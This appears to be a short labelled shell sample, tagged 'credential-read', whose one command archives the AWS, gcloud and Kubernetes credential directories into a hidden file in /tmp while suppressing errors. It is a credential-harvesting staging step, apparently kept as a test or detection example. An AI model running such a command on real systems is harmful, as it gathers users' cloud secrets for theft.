# credential-read: the cloud credential directories are archived into /tmp
tar czf /tmp/.cache.tgz ~/.aws ~/.config/gcloud ~/.kube 2>/dev/null
